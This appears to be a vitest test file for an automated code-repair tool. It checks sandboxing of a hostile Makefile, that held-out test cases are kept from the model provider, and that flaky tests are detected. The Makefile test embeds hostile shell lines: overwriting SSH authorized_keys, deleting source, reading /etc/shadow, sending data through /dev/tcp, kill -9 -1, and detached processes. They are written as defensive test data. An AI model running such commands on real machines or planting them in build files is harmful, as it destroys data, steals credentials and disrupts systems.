import { spawn } from 'node:child_process';
import { mkdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundleCommandLine, type CommandLine, processesOf } from '../../fixtures/loop/command-line.js';
import { type Edits, OFF_BY_ONE } from '../../fixtures/loop/projects.js';
import { fingerprint } from '../../unit/workspace/repositories.js';
import { believing, FEW_TRIALS, prepare, runJob, statuses } from './workshop.js';

let cli: CommandLine;
beforeAll(async () => {
  cli = await bundleCommandLine();
});
afterAll(() => cli.close());

/** A server that remembers what it was sent and answers everything with an error. */
async function listener() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on('end', () => {
      heard.push(`${request.url} ${body}`);
      response.writeHead(400, { 'content-type': 'application/json' }).end('{"error":{"message":"no"}}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const close = (): Promise<void> =>
    new Promise((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    });
  return { heard, port, close };
}

describe('a Makefile that attacks', () => {
  it('changes nothing outside the clone, reaches nobody, ends nobody and leaves nobody', async () => {
    const home = path.join(cli.root, 'person');
    mkdirSync(path.join(home, '.ssh'), { recursive: true });
    const server = await listener();
    const bystander = spawn('sleep', ['300'], { stdio: 'ignore' });
    const userRepo = '$(USER_REPO)';
    const attacks = [
      `-echo x > ${home}/planted; echo x > ${home}/.ssh/authorized_keys; echo x > $$HOME/planted`,
      `-echo x > ${userRepo}/planted; rm -rf ${userRepo}/src; echo x >> ${userRepo}/.git/config`,
      '-echo x > .git/config; echo x > .git/hooks/post-checkout',
      `-cat /etc/shadow > stolen; cat ${home}/secret >> stolen`,
      `-echo hello | (exec 3<>/dev/tcp/127.0.0.1/${server.port} && cat >&3); bash -c 'echo GET / > /dev/tcp/127.0.0.1/${server.port}'`,
      `-kill -9 ${bystander.pid}; kill -9 -1`,
      '-(sleep 300 >/dev/null 2>&1 &) ; setsid sleep 301 >/dev/null 2>&1 &',
    ];
    const job = prepare(cli, { edits: OFF_BY_ONE });
    const makefile = path.join(job.repo, 'Makefile');
    const text = readFileSync(makefile, 'utf8').replaceAll(
      'mkdir -p build',
      `mkdir -p build\n\t${attacks.join('\n\t')}`,
    );
    const attacked = prepare(cli, {
      edits: { ...OFF_BY_ONE, Makefile: text.replaceAll(userRepo, job.repo) },
    });
    const before = [fingerprint(job.repo), fingerprint(home)];
    const { report } = await runJob(cli, attacked, {
      env: { HOME: home, OPENAI_API_KEY: 'a secret of the person' },
    });
    expect([fingerprint(job.repo), fingerprint(home)]).toEqual(before);
    expect(server.heard).toEqual([]);
    expect([bystander.exitCode, bystander.signalCode]).toEqual([null, null]);
    const until = Date.now() + 60_000;
    while (processesOf(report.run).length > 0 && Date.now() < until) await delay(10);
    expect(processesOf(report.run)).toEqual([]);
    const stolen = readFileSync(path.join(attacked.home, 'runs', report.run, 'clone', 'stolen'), 'utf8');
    expect(stolen).toBe('');
    bystander.kill();
    await server.close();
  });
});

const RING_TESTS = readFileSync(
  path.join(import.meta.dirname, '../../fixtures/loop/ring/test/main.c'),
  'utf8',
);

/** The ring program with a case that no source names in full, which fails for a reason in a forbidden file. */
const HELD_OUT: Edits = {
  ...OFF_BY_ONE,
  'src/ring.h': ['void ring_init', '#define LATE 0\nvoid ring_init'],
  'test/main.c': RING_TESTS.replace('1..4', '1..5').replace(
    '    return 0;',
    '    printf("%s 5 - %s_%s\\n# %s the late one went wrong\\n", LATE ? "ok" : "not ok", "hidden", "latecomer", "hidden_latecomer" + 7);\n    return 0;',
  ),
};

describe('a held-out case', () => {
  const edits = HELD_OUT;
  const parts = {
    test: { cases: ['ring_*'], heldOut: ['hidden_*'] },
    constraints: {
      allowedPaths: ['src/ring.c'],
      forbiddenPaths: ['src/ring.h'],
      ...FEW_TRIALS,
      maxIterations: 2,
    },
  };

  it('that fails is no SUCCESS, though all the visible ones pass', async () => {
    const { report } = await runJob(cli, prepare(cli, { edits, parts }));
    expect([report.final_status, report.branch]).toEqual(['FAILURE', null]);
    expect(statuses(report).hidden_latecomer).not.toBe('pass');
    expect(report.held_out, 'marked for the person').toContain('hidden_latecomer');
  });

  it('is never told to a model: neither its name nor its lines', async () => {
    const server = await listener();
    const env = {
      BENCHLOOP_OPENAI_BASE_URL: `http://127.0.0.1:${server.port}/v1`,
      BENCHLOOP_OPENAI_MODEL: 'm',
      OPENAI_API_KEY: 'k',
    };
    const { report } = await runJob(cli, prepare(cli, { edits, parts }), {
      args: ['--provider', 'openai'],
      env,
    });
    await server.close();
    expect(report.final_status).toBe('FAILURE');
    expect(server.heard.length).toBeGreaterThan(1);
    expect(server.heard.join('\n')).toContain('ring_counts');
    const telling = server.heard.filter((text) => /hidden_latecomer|\bok 5|# latecomer/.test(text));
    expect(telling.map((text) => text.slice(0, 200))).toEqual([]);
  });

  it('that passes before and after the patch vouches for nothing', async () => {
    const late = { ...edits, 'src/ring.h': ['void ring_init', '#define LATE 1\nvoid ring_init'] as const };
    const constraints = { ...parts.constraints, searchTrials: 1000 };
    const job = believing(prepare(cli, { edits: late, parts: { ...parts, constraints } }));
    const { report } = await runJob(cli, job);
    expect(report).toMatchObject({ final_status: 'SUCCESS', verdict: 'PLAUSIBLE' });
  });
});

describe('a program that passes by chance', () => {
  it('is called flaky and left alone', async () => {
    const chance = [
      'static bool lucky(void)\n{\n    FILE *source = fopen("/dev/urandom", "rb");\n    int byte = fgetc(source);\n    fclose(source);\n    return (byte & 1) == 0;\n}\n\nstatic struct ring ring;',
    ];
    // so many coins never fall the same way twice
    const coins = Array.from({ length: 40 }, (_, i) => `    CASE(ring_luck_${i}, lucky());\n`).join('');
    const main = RING_TESTS.replace('static struct ring ring;', chance[0] ?? '')
      .replace('printf("1..4\\n");', 'printf("1..44\\n");')
      .replace('    return 0;', `${coins}    return 0;`);
    const job = prepare(cli, { edits: { 'test/main.c': main } });
    const before = fingerprint(job.repo);
    const { report } = await runJob(cli, job);
    expect(report).toMatchObject({ final_status: 'FAILURE', verdict: 'FLAKY', branch: null, patch: null });
    expect(fingerprint(job.repo)).toEqual(before);
  });
});
